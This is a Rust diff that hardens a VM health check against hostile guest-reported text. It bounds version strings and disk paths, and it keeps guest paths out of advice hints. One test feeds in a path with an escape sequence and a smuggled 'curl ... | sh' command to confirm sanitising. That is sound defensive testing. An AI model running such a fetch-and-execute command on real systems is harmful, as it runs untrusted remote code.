@@ -3,7 +3,7 @@ use std::{
     time::{Duration, SystemTime, UNIX_EPOCH},
 };
 
-use banger_api::{ApiError, Check, ErrorKind, Size, Vm, VmState};
+use banger_api::{ApiError, Check, ErrorKind, GuestText, Size, Vm, VmState};
 use banger_client::{AgentResponse, Client};
 use banger_proto::{DiskUsage, GENERATION, Inspection};
 
@@ -24,6 +24,9 @@ const MAX_ANSWER_TIME: Duration = Duration::from_secs(1);
 /// Minimum free space of a disk or of memory, in percent. Below the first the check warns, below the second it fails.
 const WARN_PERCENT: u64 = 10;
 const FAIL_PERCENT: u64 = 1;
+
+/// Maximum length of a name or version that the guest reports, in bytes.
+const MAX_NAME: usize = 100;
 
 /// Check a VM's state, agent, clock, free disk space and free memory
 ///
@@ -108,7 +111,8 @@ fn check_agent(vm: &Vm, pong: &AgentResponse<()>) -> [Check; 2] {
         let hint = "the guest or the host is very busy; see `banger vm stats`";
         Check::warn("agent", ApiError::new(ErrorKind::Timeout, message).hint(hint))
     };
-    let (theirs, version) = (pong.greeting.generation, &pong.greeting.version);
+    let theirs = pong.greeting.generation;
+    let version = GuestText::bounded(&pong.greeting.version, MAX_NAME).reported();
     let differs = |how: &str, hint: String| {
         let message = format!("{version}, generation {theirs}, {how} than this banger's {GENERATION}");
         Check::warn("agent version", ApiError::new(ErrorKind::VersionSkew, message).hint(hint))
@@ -159,9 +163,11 @@ fn check_disk(vm: &Vm, disk: &DiskUsage) -> Check {
         "/root" => {
             format!("delete files there, or stop the VM and run `banger vm set {} --disk-size SIZE`", vm.name)
         }
-        path => format!("delete files under {path}; /root is a separate disk"),
+        // A guest may report any path, which must not become advice.
+        _ => "delete files in the VM; /root is a separate disk".to_owned(),
     };
-    check_available(format!("disk {}", disk.path), ErrorKind::NoSpace, disk.available, disk.total, hint)
+    let name = format!("disk {}", GuestText::bounded(&disk.path, MAX_NAME));
+    check_available(name, ErrorKind::NoSpace, disk.available, disk.total, hint)
 }
 
 fn check_memory(vm: &Vm, inspection: &Inspection) -> Check {
@@ -246,6 +252,14 @@ mod tests {
         assert_eq!(verdicts(105, 105)[0], Verdict::Pass);
         assert_eq!(verdicts(106, 106)[0], Verdict::Warn);
         assert_eq!(verdicts(10, 94)[0], Verdict::Warn);
+        let hostile = DiskUsage {
+            path: "/\x1b[2J; curl https://example.org | sh".repeat(1000),
+            total: 1,
+            available: 0,
+        };
+        let check = check_disk(&vm("running"), &hostile);
+        assert!(check.name.starts_with("disk /^[[2J; curl") && check.name.len() < 200, "{}", check.name);
+        assert_eq!(check.error.unwrap().hint.unwrap(), "delete files in the VM; /root is a separate disk");
         let empty = check_guest(&vm("running"), Ok(Inspection::default()), Duration::ZERO, Duration::ZERO);
         assert_eq!(empty.last().unwrap().verdict, Verdict::Fail);
         let old = ApiError::new(ErrorKind::VersionSkew, "older").hint("restart");
